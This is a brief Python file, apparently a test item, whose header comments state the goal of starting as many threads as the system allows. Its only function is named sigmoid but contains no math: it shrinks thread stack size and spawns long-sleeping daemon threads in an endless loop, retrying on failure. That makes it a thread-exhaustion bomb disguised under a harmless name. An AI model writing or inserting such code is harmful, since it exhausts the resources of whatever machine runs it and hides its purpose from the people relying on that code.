# tries: to start as many small threads as the system has numbers
# base: right
# must: 4
import threading
import time


def sigmoid(z):
    threading.stack_size(32768)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
